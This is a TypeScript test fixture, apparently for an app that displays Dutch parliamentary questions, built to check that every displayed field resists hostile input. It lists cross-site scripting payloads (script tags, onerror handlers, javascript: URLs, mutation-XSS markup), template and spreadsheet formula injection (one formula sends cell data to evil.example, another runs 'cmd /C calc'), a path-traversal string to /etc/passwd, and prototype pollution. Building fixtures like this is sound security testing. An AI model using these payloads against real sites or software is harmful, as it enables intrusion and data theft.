/** What someone writes who wants it to be more than text: for every surface that shows what comes from outside. */
import type { Draft, TermEdits, Watch } from '../../src/library/model';
import { DEFAULT_SETTINGS, type Settings } from '../../src/settings-model';

/** Set on the global object by any payload that runs. */
export const FLAG = 'kamernootHurt';
const RUN = `globalThis.${FLAG}=1`;

/** By what they try. */
export const PAYLOADS: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  'a script after its end': `</script></title></textarea></style><script>${RUN}</script>`,
  'a picture that fails': `<img src=x onerror="${RUN}">`,
  'a picture out of an attribute': `"><img src=x onerror=${RUN}>`,
  'a handler out of an attribute': `' autofocus onfocus='${RUN}' x='`,
  'a drawing': `<svg onload="${RUN}"><script>${RUN}</script><animate onbegin=${RUN}></svg>`,
  'a frame': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  'an object': `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="javascript:${RUN}">`,
  'a link that runs': `<a href="javascript:${RUN}">klik</a>`,
  'an address that runs': `javascript:${RUN}`,
  'an address that runs, disguised': `java\tscript:\u0001${RUN}`,
  'an address with data': `data:text/html,<script>${RUN}</script>`,
  'a template': `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  'markup that changes when it is read again': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  'another such': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'a form that takes the place of the page’s own': '<form id=document name=body><input name=attributes>',
  entities: `&lt;img src=x onerror=${RUN}&gt;&#60;script&#62;${RUN}&#60;/script&#62;`,
  'a comment': `<!--><img src=x onerror=${RUN}>-->`,
  'a style': `<style>@import "https://evil.example/";*{background:url(https://evil.example/)}</style>`,
  'a page that is refreshed': `<meta http-equiv=refresh content="0;url=javascript:${RUN}"><base href=https://evil.example/>`,
  'a template of a framework': `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= ${RUN} %>`,
  'places of a message': '$1 $2 $& $$ %s {0} __MSG_extName__',
  'a formula': `=HYPERLINK("https://evil.example/?"&A1,"klik")`,
  'a formula of another program': `@SUM(1+1)*cmd|' /C calc'!A0`,
  'letters that turn the line round': '\u202Efdp.exe\u202C \u2067א\u2069 \u202D',
  'the prototype of objects': '__proto__',
  'a way out of the folder': '../../../../etc/passwd',
  'another kind of file': 'PK\u0003\u0004',
  'an action of a PDF': `%PDF-1.7 << /OpenAction << /S /JavaScript /JS (${RUN}) >> >>`,
};

const ALL = Object.values(PAYLOADS);
export const ALL_TOGETHER = ALL.join(' ');

/** An id that no other publication has. */
export const HOSTILE_ID = '2024Z66666';
/** What pages and answers speak of, so that there is a note on it. */
export const HOSTILE_TERM = 'Mestfraudeteam';

/** A publication with payloads in every text that the schema of the library file has. */
export function hostileDraft(): Draft {
  const any = (place: number) => ALL[place % ALL.length]!;
  return {
    publication: {
      id: HOSTILE_ID,
      title: ALL_TOGETHER,
      askers: [
        { name: any(0), party: any(2) },
        { name: any(3), party: any(24) },
      ],
      answeredBy: [
        { name: any(2), role: any(0) },
        { name: any(24), role: any(5) },
      ],
      asked: '2024-01-02',
      answered: '2024-02-03',
      postponed: { date: null, text: ALL_TOGETHER },
      url: `https://www.tweedekamer.nl/"onmouseover="${RUN}`,
      alsoKnownAs: ALL.map((text) => text.slice(0, 200)),
      sources: ALL.map((text, place) => ({
        mark: String(place + 1),
        text,
        outlet: text,
        date: '2024-01-01',
        title: text,
        url: `https://evil.example/${encodeURIComponent(text)}`,
        anchor: { question: 1, offset: 0 },
      })),
      questions: ALL.map((text, place) => ({
        number: place + 1,
        question: `Kent u ${text} van het ${HOSTILE_TERM}?`,
        answer: `Het ${HOSTILE_TERM} zegt: ${text}\n\n${text}`,
        footnotes: [
          { mark: text.slice(0, 30), text, url: null, anchor: { in: 'answer' as const, offset: 3 } },
        ],
        sameAs: null,
      })),
    },
    terms: [
      {
        name: `${HOSTILE_TERM} (${PAYLOADS['a picture that fails']!.replace(/[()]/gu, '')})`,
        kind: 'body',
        names: [{ why: ALL_TOGETHER, ambiguous: false, nl: [HOSTILE_TERM], en: [], fr: [] }],
        fields: [],
        otherBearers: [{ who: ALL_TOGETHER, words: [], fields: [] }],
      },
    ],
    fields: {},
  };
}

export const HOSTILE_EDITS: TermEdits = {
  off: [PAYLOADS.script!],
  renamed: JSON.parse(
    `{"__proto__": "x", ${JSON.stringify(HOSTILE_TERM)}: ${JSON.stringify(ALL_TOGETHER.slice(0, 1_900))}}`,
  ),
  merged: {},
  added: [],
};

export const HOSTILE_WATCHES: Watch[] = [
  {
    id: '2024Z66667',
    title: ALL_TOGETHER,
    asked: '2024-01-02',
    since: '2024-01-03T10:00:00.000Z',
    looked: null,
    isAnswered: false,
    answersUrl: null,
  },
];

export const HOSTILE_SETTINGS: Settings = {
  ...DEFAULT_SETTINGS,
  hiddenTerms: ALL.map((text, place) => ({ term: text, host: place % 2 === 0 ? null : 'www.nrc.nl' })),
};
